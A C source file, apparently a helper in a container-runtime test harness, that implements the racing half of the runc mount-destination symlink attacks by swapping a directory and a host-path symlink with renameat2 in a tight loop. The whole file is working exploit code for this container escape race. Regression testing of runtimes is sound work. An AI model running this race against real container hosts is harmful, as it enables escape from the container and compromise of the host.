/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack_swap: the racing half of the mount-destination attacks (CVE-2021-30465,
 * CVE-2024-45310), run in a container that shares a volume with containers being created.
 *
 *   attack_swap A B SECONDS [STOPFILE]
 *
 * Exchanges the names A and B (a directory and a symlink to a host path, in the shared
 * volume) with renameat2(RENAME_EXCHANGE) as fast as it can, for SECONDS or until
 * STOPFILE exists, so that a runtime that checks a mount destination and then uses the
 * path again finds the symlink the second time. Prints ready=1, then swaps=N and done=1.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 4) {
		fprintf(stderr, "usage: attack_swap A B SECONDS [STOPFILE]\n");
		return 2;
	}
	const char *a = argv[1], *b = argv[2], *stop = argc > 4 ? argv[4] : NULL;
	double end = now() + atoi(argv[3]);
	long swaps = 0, failed = 0;
	printf("ready=1\n");
	while (now() < end) {
		/* the stop file is checked now and then: stat costs more than a swap */
		if (stop && (swaps & 1023) == 0 && access(stop, F_OK) == 0)
			break;
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
			swaps++;
		else if (++failed == 1)
			printf("first_error=%s\n", strerrorname_np(errno));
	}
	printf("swaps=%ld\nfailed=%ld\ndone=1\n", swaps, failed);
	return 0;
}
